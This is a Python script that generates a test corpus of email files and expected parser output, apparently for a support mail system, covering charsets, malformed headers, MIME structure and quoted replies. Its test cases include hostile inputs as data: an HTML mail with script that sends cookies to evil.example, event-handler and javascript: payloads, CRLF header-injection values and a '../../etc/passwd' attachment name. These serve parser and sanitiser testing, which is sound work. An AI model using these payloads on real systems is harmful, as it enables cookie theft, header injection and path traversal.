"""Builds the golden mail corpus in ``tests/mail/corpus/``: one ``NAME.eml`` per case, made
with the standard library's ``email`` package (or written byte by byte where the point is
a mail that package would never produce), and the expected parse ``NAME.json`` beside it.

    python scripts/mail_corpus.py            # .eml files, and .json for cases that have none
    python scripts/mail_corpus.py --refresh  # also rewrite every .json from today's parser

The bytes are deterministic (fixed dates, ids and MIME boundaries), so running it changes
nothing unless a case changed. After ``--refresh`` read the diff of the .json files: they are
what the parser must produce, not whatever it produced.
"""

# The corpus is multilingual on purpose: Cyrillic, full-width punctuation, typographic dashes.
# ruff: noqa: RUF001

from __future__ import annotations

import argparse
import base64
import json
import quopri
import struct
import sys
from collections.abc import Callable
from email.generator import BytesGenerator
from email.message import Message
from email.policy import compat32
from io import BytesIO
from pathlib import Path
from typing import Any

CORPUS = Path(__file__).resolve().parent.parent / "tests" / "mail" / "corpus"
DATE = "Mon, 04 Mar 2024 10:00:00 +0200"
CUSTOMER = "Jane Customer <jane@customer.example>"
SUPPORT = "ACME Support <support@acme.test>"
# A reply address and Message-ID as the sending side makes them (token: t<ticket>-<signature>).
TOKEN = "tq7x2k9pd-3f9a0c1b2e"
OUR_MESSAGE_ID = f"<saruna.{TOKEN}.5be1c0de2f3a4b6c@acme.saruna.test>"
PNG = bytes.fromhex(  # a 1x1 transparent PNG
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c63000100000500010d0a2db40000000049454e44ae426082"
)
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"

CASES: dict[str, Callable[[str], bytes]] = {}


def case(build_case: Callable[[str], bytes]) -> Callable[[str], bytes]:
    """Registers a case under its function's name, hyphenated; it gets that name to use."""
    CASES[build_case.__name__.replace("_", "-")] = build_case
    return build_case


# --- building blocks -----------------------------------------------------------------------

def encode(data: bytes, cte: str) -> str:
    """A payload in its transfer encoding, as the str compat32 keeps (8-bit bytes escaped)."""
    if cte == "base64":
        return base64.encodebytes(data).decode("ascii")
    if cte == "quoted-printable":
        return quopri.encodestring(data).decode("ascii")
    return data.decode("ascii", "surrogateescape")


def part(content_type: str, data: bytes, cte: str = "base64", **headers: str) -> Message:
    """A leaf part; ``headers`` by keyword with ``_`` for ``-`` (content_id=...)."""
    message = Message()
    message["Content-Type"] = content_type
    message["Content-Transfer-Encoding"] = cte
    for name, value in headers.items():
        message[name.replace("_", "-").title().replace("-Id", "-ID")] = value
    message.set_payload(encode(data, cte))
    return message


def text(body: str, subtype: str = "plain", charset: str = "utf-8",
         cte: str = "quoted-printable", params: str = "", **headers: str) -> Message:
    return part(f'text/{subtype}; charset="{charset}"{params}', body.encode(charset), cte,
                **headers)


def html(body: str, **kwargs: str) -> Message:
    return text(body, "html", **kwargs)


def attachment(content_type: str, data: bytes, filename: str,
               disposition: str = "attachment") -> Message:
    return part(f'{content_type}; name="{filename}"', data,
                content_disposition=f'{disposition}; filename="{filename}"')


def multipart(subtype: str, *parts: Message, params: str = "") -> Message:
    message = Message()
    message["Content-Type"] = f"multipart/{subtype}{params}"
    message.set_payload(list(parts))
    return message


def nested(inner: Message, content_type: str = "message/rfc822", **headers: str) -> Message:
    message = Message()
    message["Content-Type"] = content_type
    for name, value in headers.items():
        message[name.replace("_", "-").title()] = value
    message.set_payload([inner])
    return message


def mail(name: str, body: Message | None, *, subject: str = "Printer does not print",
         sender: str | None = CUSTOMER, to: str = SUPPORT, date: str | None = DATE,
         headers: tuple[tuple[str, str], ...] = ()) -> Message:
    """A whole mail: the body part with the usual headers put in front of its own."""
    message = Message() if body is None else body
    own = list(message.raw_items())
    for header in {header for header, _value in own}:
        del message[header]
    if sender is not None:
        message["From"] = sender
    message["To"] = to
    message["Subject"] = subject
    if date is not None:
        message["Date"] = date
    message["Message-ID"] = f"<{name}@customer.example>"
    for header, value in headers:
        message[header] = value
    if body is not None:
        message["MIME-Version"] = "1.0"
    for header, value in own:
        message[header] = value
    return message


def render(message: Message, name: str) -> bytes:
    for number, item in enumerate(message.walk()):
        if item.get_content_maintype() == "multipart" and isinstance(item.get_payload(), list):
            item.set_boundary(f"=_{name}_{number}")
    buffer = BytesIO()
    BytesGenerator(buffer, mangle_from_=False, policy=compat32).flatten(message)
    return buffer.getvalue()


def build(name: str, body: Message | None, **kwargs: Any) -> bytes:
    return render(mail(name, body, **kwargs), name)


def encoded(value: str, charset: str, encoding: str = "b") -> str:
    """An RFC 2047 encoded header value in ``charset``."""
    data = value.encode(charset)
    if encoding == "b":
        return f"=?{charset}?B?{base64.b64encode(data).decode()}?="
    return f"=?{charset}?Q?{quopri.encodestring(data, header=True).decode()}?="


def tnef(body: str, files: list[tuple[str, bytes]], codepage: int = 1252) -> bytes:
    """A winmail.dat as Outlook writes it: TNEF attributes (level, id, type, length, data,
    checksum) for the message and then for each attached file."""

    def attribute(level: int, name: int, kind: int, data: bytes) -> bytes:
        return (struct.pack("<BHHI", level, name, kind, len(data)) + data
                + struct.pack("<H", sum(data) & 0xFFFF))

    encoding = f"cp{codepage}"
    out = struct.pack("<IH", 0x223E9F78, 0x0102)
    out += attribute(1, 0x9006, 0x0008, struct.pack("<I", 0x00010000))  # TNEF version
    out += attribute(1, 0x9007, 0x0006, struct.pack("<II", codepage, 0))  # OEM code page
    out += attribute(1, 0x8008, 0x0007, b"IPM.Microsoft Mail.Note\x00")  # message class
    out += attribute(1, 0x800C, 0x0002, body.encode(encoding))  # body
    for filename, data in files:
        out += attribute(2, 0x9002, 0x0006, bytes(14))  # rendering: starts an attachment
        out += attribute(2, 0x8010, 0x0001, filename.encode(encoding) + b"\x00")  # title
        out += attribute(2, 0x800F, 0x0006, data)  # the file
    return out


# --- charsets ------------------------------------------------------------------------------

CHARSET_CASES = [
    # name, charset label, transfer encoding, subject, body
    ("utf-8", "utf-8", "quoted-printable", "Printeris nedrukā",
     "Sveiki! Mans printeris atkal nedrukā. Lūdzu, palīdziet — rēķins jāizdrukā šodien."),
    ("iso-8859-1", "iso-8859-1", "quoted-printable", "Rechnung für März",
     "Grüße aus München! Können Sie mir bitte die Rechnung schicken? Danke schön."),
    ("iso-8859-2", "iso-8859-2", "quoted-printable", "Zamówienie nr 17",
     "Dzień dobry, zamówienie nr 17 nie dotarło. Proszę o pilną odpowiedź."),
    ("iso-8859-7", "iso-8859-7", "base64", "Παραγγελία",
     "Καλημέρα, η παραγγελία μου δεν έφτασε ακόμα."),
    ("iso-8859-13", "iso-8859-13", "quoted-printable", "Pieteikšanās kļūda",
     "Labdien! Man nedarbojas pieteikšanās - lūdzu, pārbaudiet kontu. Paldies, Jānis"),
    ("iso-8859-15", "iso-8859-15", "quoted-printable", "Facture de 25 €",
     "Bonjour, le total est de 25 €, merci pour l'œuvre."),
    ("windows-1250", "windows-1250", "quoted-printable", "Objednávka č. 12",
     "Dobrý den, objednávka č. 12 ještě nedorazila. Děkuji."),
    ("windows-1251", "windows-1251", "base64", "Заказ № 5",
     "Здравствуйте! Заказ № 5 не пришёл. Спасибо."),
    ("windows-1252", "windows-1252", "quoted-printable", "“Smart quotes” – €",
     "“Smart quotes” – and the € sign… at the café."),
    ("windows-1257", "windows-1257", "quoted-printable", "Užsakymas vėluoja",
     "Laba diena! Mano užsakymas vėluoja. Ačiū."),
    ("koi8-r", "koi8-r", "8bit", "Не могу войти",
     "Привет! Не могу войти в личный кабинет."),
    ("iso-2022-jp", "iso-2022-jp", "7bit", "請求書について",
     "お世話になっております。請求書を送ってください。"),
    ("gb18030", "gb18030", "base64", "订单还没有到",
     "您好，我的订单还没有到。谢谢！𠀀"),
    ("big5", "big5", "base64", "發票問題", "您好，請問發票什麼時候寄出？"),
    ("euc-kr", "euc-kr", "base64", "주문 문의", "안녕하세요, 주문이 아직 도착하지 않았습니다."),
    ("utf-16", "utf-16", "base64", "UTF-16 body", "Hello from UTF-16 ✓"),
]


def _charset_case(label: str, charset: str, cte: str, subject: str, body: str) -> None:
    def build_case(name: str) -> bytes:
        subject_charset = "utf-8" if charset == "utf-16" else charset
        return build(name, text(body, charset=charset, cte=cte),
                     subject=encoded(subject, subject_charset))

    CASES[f"charset-{label}"] = build_case


for _case in CHARSET_CASES:
    _charset_case(*_case)


@case
def charset_gb2312_label_gbk_bytes(name: str) -> bytes:
    # Labelled GB2312, holding GBK-only characters (镕): read as the superset, GB18030.
    body = part('text/plain; charset="gb2312"', "朱镕基先生您好，发票已收到。".encode("gbk"))
    return build(name, body, subject="GBK")


@case
def charset_shift_jis_cp932(name: str) -> bytes:
    # Labelled Shift_JIS with Microsoft's extensions (①): read as cp932.
    body = part('text/plain; charset="shift_jis"', "①ご注文ありがとうございます。".encode("cp932"))
    return build(name, body, subject=encoded("ご注文", "shift_jis"))


@case
def charset_unknown_label_utf8(name: str) -> bytes:
    body = part('text/plain; charset="x-unknown-charset"', "Ciao, è già pronto?".encode(), "8bit")
    return build(name, body, subject="Unknown charset, UTF-8 bytes")


@case
def charset_unknown_label_latin(name: str) -> bytes:
    body = part('text/plain; charset="foo-bar"', "Ciao, è già pronto?".encode("cp1252"), "8bit")
    return build(name, body, subject="Unknown charset, Latin bytes")


@case
def charset_mislabelled_utf8_as_latin1(name: str) -> bytes:
    body = part('text/plain; charset="iso-8859-1"', "Grüße, Jürgen — danke!".encode(),
                "quoted-printable")
    return build(name, body, subject="Mislabelled UTF-8")


@case
def charset_mislabelled_latin1_as_utf8(name: str) -> bytes:
    body = part('text/plain; charset="utf-8"', "Grüße, Jürgen!".encode("cp1252"),
                "quoted-printable")
    return build(name, body, subject="Mislabelled Latin-1")


@case
def charset_missing_8bit(name: str) -> bytes:
    body = part("text/plain", "Labdien, rēķins Nr. 7 nav pienācis.".encode(), "8bit")
    return build(name, body, subject="No charset, 8-bit UTF-8")


@case
def charset_html_meta(name: str) -> bytes:
    page = ('<html><head><meta charset="windows-1251"></head>'
            "<body><p>Добрый день, счёт во вложении.</p></body></html>")
    body = part("text/html", page.encode("cp1251"), "quoted-printable")
    return build(name, body, subject="Charset only in the HTML meta tag")


# --- headers -------------------------------------------------------------------------------

def raw_mail(head: bytes, body: bytes = b"Hello.\n") -> bytes:
    return head.strip(b"\n") + b"\n\n" + body


@case
def header_8bit_utf8(name: str) -> bytes:
    return raw_mail(
        "From: Jānis Bērziņš <janis@customer.example>\n"
        "To: support@acme.test\nSubject: Rēķins nav pienācis\n"
        f"Date: {DATE}\nMessage-ID: <{name}@customer.example>\n"
        "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n".encode(),
        b"Labdien!\n",
    )


@case
def header_8bit_cp1251(name: str) -> bytes:
    # An old mailer: raw windows-1251 in the headers, the charset only declared for the body.
    return raw_mail(
        "From: Иван Петров <ivan@customer.example>\n"
        "To: support@acme.test\nSubject: Счёт не получен\n"
        f"Date: {DATE}\nMessage-ID: <{name}@customer.example>\n"
        "Content-Type: text/plain; charset=windows-1251\n"
        "Content-Transfer-Encoding: 8bit\n".encode("cp1251"),
        "Добрый день!\n".encode("cp1251"),
    )


@case
def header_rfc2047_split_multibyte(name: str) -> bytes:
    # "Ārkārtas pieprasījums" in two B-words cut through the middle of "ā" (c4 81).
    data = "Ārkārtas pieprasījums".encode()
    cut = data.index("ā".encode()) + 1
    first, second = (base64.b64encode(x).decode() for x in (data[:cut], data[cut:]))
    return build(name, text("Lūdzu, steidzami!"),
                 subject=f"=?UTF-8?B?{first}?=\n =?UTF-8?B?{second}?=")


@case
def header_rfc2047_mixed(name: str) -> bytes:
    subject = (f"Re: {encoded('Grüße ', 'iso-8859-1', 'q')} {encoded('и привет', 'koi8-r')}"
               " and plain text")
    return build(name, text("Mixed charsets in one subject."),
                 subject=subject,
                 sender=f"{encoded('Zoë Müller', 'utf-8', 'q')} <zoe@customer.example>",
                 headers=(("Cc", f'"{encoded("Doe, John", "utf-8")}" <JOHN@customer.example>, '
                                 "bob@customer.example"),))


@case
def header_rfc2047_broken(name: str) -> bytes:
    return raw_mail(
        b"From: =?x-unknown?Q?Caf=E9?= <cafe@customer.example>\n"
        b"To: support@acme.test\n"
        b"Subject: =?utf-8?B?YnJva2VuIGJhc2U2NA?= =?utf-8?Q?with spaces inside?=\n"
        b" =?iso-8859-1?q?d=E9j=E0_vu?= =?utf-8?B?!!!not-base64?=\n"
        + f"Date: {DATE}\n".encode()
        + b"Message-ID: <" + name.encode() + b"@customer.example>\n"
        b"Content-Type: text/plain; charset=us-ascii\n"
    )


@case
def header_injection(name: str) -> bytes:
    # Encoded line breaks and NULs must not become new lines (or headers) anywhere downstream.
    subject = encoded("Invoice\r\nBcc: victim@elsewhere.example\x00 please", "utf-8")
    filename = encoded("report\r\nContent-Disposition: inline.pdf", "utf-8")
    body = multipart(
        "mixed", text("See attached."),
        part(f'application/pdf; name="{filename}"', PDF,
             content_disposition=f'attachment; filename="{filename}"'),
    )
    sender = encoded("Evil\nName", "utf-8")
    return build(name, body, subject=subject, sender=f"{sender} <evil@customer.example>")


@case
def header_malformed(name: str) -> bytes:
    # No MIME-Version, a line that is no header, odd spacing, an address without brackets,
    # a Message-ID without brackets, a duplicated Subject.
    return raw_mail(
        b"From:John Doe john@customer.example\n"
        b"To:   support@acme.test ,,  \n"
        b"Subject:   First   subject\n"
        b"Subject: Second subject\n"
        b"This line is not a header\n"
        + f"Date: {DATE}\n".encode()
        + b"Message-ID: header-malformed@customer.example\n"
        b"Content-Type: text/plain; charset=\n",
        b"The body after malformed headers.\n",
    )


@case
def header_continuation_garbage(name: str) -> bytes:
    # A body that starts without the blank line, and a header folded with a bare tab.
    return (b"From: jane@customer.example\nTo: support@acme.test\nSubject: Folded\n\tsubject\n"
            b"Message-ID: <" + name.encode() + b"@customer.example>\n"
            b"Content-Type: text/plain\n"
            b"Hello, I forgot the blank line.\n")


@case
def date_missing(name: str) -> bytes:
    return build(name, text("No Date header at all."), date=None)


@case
def date_garbage(name: str) -> bytes:
    return build(name, text("The Date header is nonsense."),
                 date="yesterday at noon, probably")


@case
def date_no_zone_two_digit_year(name: str) -> bytes:
    return build(name, text("Two-digit year, no zone."),
                 date="4 Mar 24 10:00:00")


@case
def date_out_of_range(name: str) -> bytes:
    return build(name, text("Impossible date."),
                 date="Fri, 31 Feb 2024 25:61:00 +9999")


@case
def from_missing(name: str) -> bytes:
    return build(name, text("No From header; the Return-Path says who."), sender=None,
                 headers=(("Return-Path", "<robot@customer.example>"),))


@case
def empty_body(name: str) -> bytes:
    return raw_mail(
        b"From: jane@customer.example\nTo: support@acme.test\nSubject: (empty)\n"
        + f"Date: {DATE}\nMessage-ID: <{name}@customer.example>\n".encode(), b"")


# --- transfer encodings, filenames ---------------------------------------------------------

@case
def transfer_qp_soft_breaks(name: str) -> bytes:
    long_line = ("This is a long line that a mail client wraps with quoted-printable soft "
                 "line breaks; equals sign = stays, tabs\tstay, and ümlauts are encoded. ") * 2
    return build(name, text(long_line.strip() + "\nSecond line."))


@case
def transfer_base64_broken(name: str) -> bytes:
    payload = base64.b64encode(b"Base64 without its padding and with junk: ok!")
    damaged = payload.rstrip(b"=")[:20] + b"*\n" + payload.rstrip(b"=")[20:] + b"\n"
    return raw_mail(
        b"From: jane@customer.example\nTo: support@acme.test\nSubject: Broken base64\n"
        + f"Date: {DATE}\n".encode()
        + b"Message-ID: <" + name.encode() + b"@customer.example>\nMIME-Version: 1.0\n"
        b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: Base64 \n",
        damaged,
    )


@case
def format_flowed(name: str) -> bytes:
    body = ("Hello,\n\nthis paragraph was written as one long line and the client \n"
            "wrapped it with trailing spaces, \nas RFC 3676 says.\n"
            " From here on the line was space-stuffed.\n\n"
            "> A quoted flowed \n> line.\n\n-- \nJane\n")
    return build(name, text(body, charset="utf-8", cte="7bit",
                                       params="; format=flowed"))


@case
def filename_rfc2231(name: str) -> bytes:
    attached = part("application/pdf", PDF)
    attached["Content-Disposition"] = ("attachment;\n filename*0*=utf-8''R%C4%93%C4%B7ins%20"
                                       "Nr.%2042%20;\n filename*1*=%E2%80%94%20m%C4%81rts.pdf")
    return build(name, multipart("mixed", text("Rēķins pielikumā."), attached),
                 subject="RFC 2231 filename")


@case
def filename_rfc2047(name: str) -> bytes:
    filename = encoded("Счёт за март.pdf", "utf-8")
    return build(name, multipart(
        "mixed", text("Счёт во вложении."),
        part(f'application/pdf; name="{filename}"', PDF,
             content_disposition=f'attachment; filename="{filename}"'),
    ), subject="RFC 2047 filename (what Outlook and Gmail send)")


@case
def filename_8bit(name: str) -> bytes:
    return raw_mail(
        b"From: jane@customer.example\nTo: support@acme.test\nSubject: 8-bit filename\n"
        + f"Date: {DATE}\n".encode()
        + b"Message-ID: <" + name.encode() + b"@customer.example>\nMIME-Version: 1.0\n"
        b'Content-Type: multipart/mixed; boundary="b"\n',
        b"--b\nContent-Type: text/plain; charset=utf-8\n\nSee the file.\n"
        + '--b\nContent-Type: text/plain; name="Übersicht März.txt"\n'
          'Content-Disposition: attachment; filename="Übersicht März.txt"\n\n'.encode()
        + b"one,two\n--b--\n",
    )


@case
def filename_paths(name: str) -> bytes:
    return build(name, multipart(
        "mixed", text("Names with directories in them."),
        attachment("text/plain", b"root:x:0:0\n", "../../etc/passwd"),
        attachment("application/pdf", PDF, "C:\\Users\\jane\\Desktop\\report.pdf"),
        part("application/octet-stream", b"\x00\x01\x02"),
    ), subject="Attachments named with paths, and one without a name")


@case
def attachments_mixed(name: str) -> bytes:
    return build(name, multipart(
        "mixed", text("Please find the invoice and a screenshot attached."),
        attachment("application/pdf", PDF, "invoice-2024-17.pdf"),
        attachment("image/png", PNG, "screenshot.png"),
    ), subject="Invoice and screenshot")


@case
def uuencode(name: str) -> bytes:
    payload = b"begin 644 note.txt\n%2&5L;&\\`\n`\nend\n"
    return raw_mail(
        b"From: jane@customer.example\nTo: support@acme.test\nSubject: uuencoded part\n"
        + f"Date: {DATE}\n".encode()
        + b"Message-ID: <" + name.encode() + b"@customer.example>\nMIME-Version: 1.0\n"
        b'Content-Type: multipart/mixed; boundary="b"\n',
        b"--b\nContent-Type: text/plain\n\nAn old client.\n--b\n"
        b'Content-Type: application/octet-stream; name="note.txt"\n'
        b"Content-Transfer-Encoding: x-uuencode\n"
        b'Content-Disposition: attachment; filename="note.txt"\n\n' + payload + b"--b--\n",
    )


# --- structure -----------------------------------------------------------------------------

@case
def alternative_text_html(name: str) -> bytes:
    return build(name, multipart(
        "alternative",
        text("Hello,\n\nthe printer shows *error 42*.\n\nJane"),
        html("<p>Hello,</p><p>the printer shows <b>error 42</b>.</p><p>Jane</p>"),
    ))


@case
def alternative_calendar(name: str) -> bytes:
    invite = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nEND:VCALENDAR\r\n"
    return build(name, multipart(
        "alternative",
        text("Call on Tuesday at 10:00."),
        html("<p>Call on <b>Tuesday</b> at 10:00.</p>"),
        part('text/calendar; charset="utf-8"; method=REQUEST', invite.encode()),
    ), subject="Invitation: call on Tuesday")


@case
def html_only(name: str) -> bytes:
    return build(name, html(
        "<html><head><title>Ignored</title></head><body><h1>Order 17</h1>"
        "<ul><li>Two chairs</li><li>One table</li></ul>"
        '<p>Track it <a href="https://shop.example/track/17">here</a>.</p></body></html>'
    ), subject="HTML only")


@case
def related_inline_image(name: str) -> bytes:
    related = multipart(
        "related",
        html('<div>The error looks like this:<br><img src="cid:shot-1@customer.example" '
             'alt="screenshot" width="1" height="1"></div>'),
        part("image/png", PNG, content_id="<shot-1@customer.example>",
             content_disposition='inline; filename="image001.png"'),
    )
    return build(name, multipart(
        "alternative", text("The error looks like this:\n[screenshot]"), related),
        subject="Screenshot of the error")


@case
def related_start_param(name: str) -> bytes:
    image = part("image/gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", content_id="<logo>")
    root = html('<p><img src="cid:logo"> Root named by the start parameter.</p>',
                content_id="<root@customer.example>")
    return build(name, multipart(
        "related", image, root,
        params='; type="text/html"; start="<root@customer.example>"'))


@case
def mixed_inline_parts(name: str) -> bytes:
    # Apple Mail: an image dropped in the middle of the text makes text, image, text.
    return build(name, multipart(
        "mixed",
        html("<div>Before the picture.</div>"),
        part("image/png", PNG, content_disposition='inline; filename="photo.png"'),
        html("<div>After the picture.</div>"),
        text("A plain text part at the end."),
    ), subject="Text, picture, text")


@case
def multipart_no_boundary(name: str) -> bytes:
    return raw_mail(
        b"From: jane@customer.example\nTo: support@acme.test\nSubject: Boundary missing\n"
        + f"Date: {DATE}\n".encode()
        + b"Message-ID: <" + name.encode() + b"@customer.example>\nMIME-Version: 1.0\n"
        b"Content-Type: multipart/mixed\n",
        b"The sender forgot the boundary; this text is all there is.\n",
    )


@case
def multipart_deep(name: str) -> bytes:
    inner = text("Found at the bottom of 40 nested parts.")
    for _level in range(40):
        inner = multipart("mixed", inner)
    return build(name, multipart("mixed", text("At the top."), inner),
                 subject="Deeply nested")


@case
def smime_signed(name: str) -> bytes:
    return build(name, multipart(
        "signed", text("Signed, so you know it's me."),
        part('application/pkcs7-signature; name="smime.p7s"', b"\x30\x80signature",
             content_disposition='attachment; filename="smime.p7s"'),
        params='; protocol="application/pkcs7-signature"; micalg=sha-256'),
        subject="Signed mail")


@case
def tnef_with_text(name: str) -> bytes:
    winmail = tnef("Please see the two files.", [
        ("Übersicht.txt", "Summe: 12 €\n".encode("cp1252")),
        ("invoice.pdf", PDF),
    ])
    return build(name, multipart(
        "mixed", text("Please see the two files."),
        part('application/ms-tnef; name="winmail.dat"', winmail,
             content_disposition='attachment; filename="winmail.dat"'),
    ), subject="Files from Outlook", sender="Bob Outlook <bob@corp.example>")


@case
def tnef_only(name: str) -> bytes:
    winmail = tnef("The whole mail is in winmail.dat.\r\nSecond line.", [("notes.txt", b"hi\n")])
    return build(name, part('application/vnd.ms-tnef; name="winmail.dat"', winmail,
                                   content_disposition='attachment; filename="winmail.dat"'),
                 subject="Only winmail.dat", sender="Bob Outlook <bob@corp.example>")


@case
def tnef_damaged(name: str) -> bytes:
    return build(name, multipart(
        "mixed", text("The attachment is damaged."),
        part('application/ms-tnef; name="winmail.dat"', b"\x78\x9f\x3e\x22garbage-bytes",
             content_disposition='attachment; filename="winmail.dat"'),
    ), subject="Damaged winmail.dat")


def _original(subject: str = "Quarterly numbers") -> Message:
    return mail("forwarded-original", multipart(
        "mixed", text("Here are the numbers."),
        attachment("application/pdf", PDF, "numbers.pdf"),
    ), subject=subject, sender="Boss <boss@corp.example>", to="jane@customer.example",
        date="Fri, 01 Mar 2024 08:00:00 +0100")


@case
def forwarded_rfc822(name: str) -> bytes:
    return build(name, multipart(
        "mixed", text("Forwarding the mail below, please have a look."),
        nested(_original("Quarterly numbers / Q1")),
    ), subject="Fwd: Quarterly numbers / Q1")


@case
def forwarded_rfc822_named(name: str) -> bytes:
    return build(name, multipart(
        "mixed", text("The mail as an attachment."),
        nested(_original(), content_disposition='attachment; filename="Original mail.eml"'),
    ), subject="Fwd: named attachment")


@case
def forwarded_inline_text(name: str) -> bytes:
    body = ("Please help with the mail below.\n\n"
            "---------- Forwarded message ---------\n"
            "From: Boss <boss@corp.example>\nDate: Fri, 1 Mar 2024 at 08:00\n"
            "Subject: Quarterly numbers\nTo: <jane@customer.example>\n\n"
            "Here are the numbers.\n")
    return build(name, text(body), subject="Fwd: Quarterly numbers")


# --- sanitising ----------------------------------------------------------------------------

@case
def html_scripts(name: str) -> bytes:
    return build(name, html(
        "<html><head><style>body{background:url(https://evil.example/x)}</style>"
        "<script>alert('head')</script></head>"
        '<body onload="steal()"><p onclick="steal()">Hello <b>there</b>.</p>'
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        '<a href="javascript:alert(1)">click me</a> '
        '<a href="https://shop.example/" target="_blank">shop</a> '
        '<a href="data:text/html;base64,PHNjcmlwdD4=">data link</a>'
        '<iframe src="https://evil.example/frame"></iframe>'
        '<form action="https://evil.example/"><input name="password"></form>'
        '<img src="x" onerror="steal()">'
        '<div style="position:fixed;top:0;color:red;background-image:url(https://e.example/)">'
        "styled</div></body></html>"
    ), subject="HTML with scripts")


@case
def html_remote_images(name: str) -> bytes:
    return build(name, html(
        '<p>Newsletter-ish <img src="https://tracker.example/open.gif?u=17" width="1" '
        'height="1"> and <img src="//cdn.example/logo.png" alt="logo"> and '
        '<img src="cid:local-part" alt="inline"> and '
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="data">.</p>'
    ), subject="Remote images")


# --- quoted history and signatures ---------------------------------------------------------

GMAIL_TEXT = """Thanks, restarting the printer fixed it!

Jane

--
Jane Customer
Customer Ltd · +371 2000 0000

On Mon, 4 Mar 2024 at 09:00, ACME Support <support@acme.test> wrote:

> Hello Jane,
> please restart the printer.
>
"""
GMAIL_HTML = (
    '<div dir="ltr">Thanks, restarting the printer fixed it!<div><br></div><div>Jane</div>'
    '<br clear="all"><div><br></div><span class="gmail_signature_prefix">-- </span><br>'
    '<div dir="ltr" class="gmail_signature" data-smartmail="gmail_signature"><div dir="ltr">'
    "Jane Customer<div>Customer Ltd · +371 2000 0000</div></div></div></div><br>"
    '<div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">On Mon, '
    '4 Mar 2024 at 09:00, ACME Support &lt;<a href="mailto:support@acme.test">'
    "support@acme.test</a>&gt; wrote:<br></div>"
    '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid '
    'rgb(204,204,204);padding-left:1ex">Hello Jane,<br>please restart the printer.<br>'
    "</blockquote></div>"
)


@case
def quote_gmail(name: str) -> bytes:
    return build(name, multipart("alternative", text(GMAIL_TEXT), html(GMAIL_HTML)),
                 subject="Re: Printer does not print",
                 headers=(("In-Reply-To", OUR_MESSAGE_ID), ("References", OUR_MESSAGE_ID)))


OUTLOOK_TEXT = """Hi, the invoice is still wrong.

Regards,
John

From: ACME Support <support@acme.test>
Sent: Monday, March 4, 2024 9:00 AM
To: John Smith <john@bigcorp.example>
Subject: RE: Invoice 2024-17

Dear John, we corrected the invoice.
"""
OUTLOOK_HTML = (
    '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>'
    '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
    "<style><!-- p.MsoNormal {margin:0cm; font-size:11.0pt;} --></style></head>"
    '<body lang="EN-US"><div class="WordSection1">'
    '<p class="MsoNormal">Hi, the invoice is still wrong.<o:p></o:p></p>'
    '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>'
    '<p class="MsoNormal">Regards,<br>John<o:p></o:p></p>'
    '<p class="MsoNormal"><o:p>&nbsp;</o:p></p><div>'
    '<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">'
    '<p class="MsoNormal"><b>From:</b> ACME Support &lt;support@acme.test&gt; <br>'
    "<b>Sent:</b> Monday, March 4, 2024 9:00 AM<br>"
    "<b>To:</b> John Smith &lt;john@bigcorp.example&gt;<br>"
    "<b>Subject:</b> RE: Invoice 2024-17<o:p></o:p></p></div></div>"
    '<p class="MsoNormal">Dear John, we corrected the invoice.<o:p></o:p></p>'
    "</div></body></html>"
)


@case
def quote_outlook(name: str) -> bytes:
    return build(name, multipart("alternative", text(OUTLOOK_TEXT),
                                            html(OUTLOOK_HTML)),
                 subject="RE: Invoice 2024-17", sender="John Smith <john@bigcorp.example>",
                 headers=(("Thread-Topic", "Invoice 2024-17"), ("In-Reply-To", OUR_MESSAGE_ID)))


@case
def quote_outlook_original_message(name: str) -> bytes:
    body = ("Yes, please cancel it.\n\n-----Original Message-----\n"
            "From: ACME Support [mailto:support@acme.test]\nSent: Monday, March 04, 2024 9:00\n"
            "To: John Smith\nSubject: Your order\n\nShall we cancel order 17?\n")
    return build(name, text(body, charset="windows-1252"),
                 subject="RE: Your order", sender="John Smith <john@bigcorp.example>")


APPLE_HTML = (
    '<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>'
    '<body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: '
    'after-white-space;">Sounds good, see you then.<br id="lineBreakAtBeginningOfMessage">'
    '<div><br><blockquote type="cite"><div>On 4 Mar 2024, at 09:00, ACME Support '
    '&lt;support@acme.test&gt; wrote:</div><br class="Apple-interchange-newline"><div>'
    "<div>Hello, can we call tomorrow at 10?</div></div></blockquote></div><br></body></html>"
)
APPLE_TEXT = """Sounds good, see you then.

> On 4 Mar 2024, at 09:00, ACME Support <support@acme.test> wrote:
>
> Hello, can we call tomorrow at 10?
"""


@case
def quote_apple_mail(name: str) -> bytes:
    return build(name, multipart("alternative", text(APPLE_TEXT),
                                               html(APPLE_HTML)),
                 subject="Re: Call tomorrow?",
                 headers=(("In-Reply-To", OUR_MESSAGE_ID),))


@case
def quote_thunderbird(name: str) -> bytes:
    body = ("Hi,\n\nthe export still fails with error 0x80070005. Log attached.\n\n"
            "Best regards\nAnna\n\n-- \nAnna Berg\nExample GmbH\n\n"
            "Am 04.03.24 um 09:00 schrieb ACME Support:\n> Hello Anna,\n"
            "> please send us the log.\n")
    return build(name, multipart(
        "mixed", text(body, cte="8bit"), attachment("text/plain", b"error 0x80070005\n",
                                                    "export.log"),
    ), subject="Re: Export fails", sender="Anna Berg <anna@example-gmbh.example>")


@case
def quote_marker_text(name: str) -> bytes:
    body = ("Paldies, tagad strādā!\n\n"
            "Pirmd., 2024. g. 4. marts, plkst. 09:00 ACME Support <support@acme.test> "
            "rakstīja:\n"
            "> ##- Please type your reply above this line -##\n>\n"
            "> Labdien, lūdzu restartējiet iekārtu.\n> ACME Support\n")
    return build(name, text(body), subject="Re: [#ABC-DEF-123] Printeris",
                 to=f"ACME Support <acme+{TOKEN}@acme.saruna.test>",
